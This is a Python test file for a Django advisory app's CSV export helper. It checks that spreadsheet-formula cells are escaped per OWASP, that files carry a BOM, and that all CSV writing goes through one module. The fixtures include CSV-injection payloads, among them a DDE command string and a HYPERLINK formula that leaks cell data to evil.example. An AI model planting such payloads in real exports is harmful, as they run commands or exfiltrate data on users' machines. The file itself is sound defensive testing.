"""CSV exports: every cell that a spreadsheet would run as a formula is escaped (OWASP), files
start with a UTF-8 BOM, and no module writes CSV except through advisors/exports.py."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse

from advisors import exports

ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
        ("+1+1", "'+1+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Schwab", "Schwab"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (100, "100"),
    ],
)
def test_safe_cell(value: object, expected: str) -> None:
    assert exports.safe_cell(value) == expected


def test_response_has_a_bom_and_escapes_every_cell() -> None:
    response = exports.csv_response(filename="x.csv", header=["=a", "b"], rows=[["@c", "-d"]])
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows == [["'=a", "b"], ["'@c", "'-d"]]


def test_trades_csv_escapes_custodian_and_lot_ids(
    users: dict, households: dict, plans: dict, client_for: object
) -> None:
    harvest = plans["advisor"].recommendations.get()
    account, lot = harvest.account, harvest.lot
    account.custodian = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    account.save(update_fields=["custodian"])
    lot.external_id = "-2+3+cmd|' /C calc'!A0"
    lot.save(update_fields=["external_id"])
    client = client_for(users["advisor"])
    client.post(reverse("taxlogic:decide", args=[harvest.public_id]), {"decision": "approve"})
    url = reverse("taxlogic:trades_csv", args=[households["advisor"].public_id])
    response = client.get(url)
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    sell = rows[1]
    assert sell[0].startswith("'=HYPERLINK(")
    assert sell[2] == "'-2+3+cmd|' /C calc'!A0"
    assert all(not cell.startswith(exports.FORMULA_STARTS) for row in rows for cell in row)


def test_no_module_writes_csv_without_the_helper() -> None:
    """A new export must use advisors/exports.py: csv.writer / DictWriter anywhere else in the
    site's code fails this test."""
    offenders = []
    for app in ("advisors", "clients", "taxlogic", "config"):
        for path in (ROOT / app).rglob("*.py"):
            if path.name == "exports.py" and path.parent.name == "advisors":
                continue
            text = path.read_text()
            if re.search(r"csv\.(writer|DictWriter)\(", text):
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []
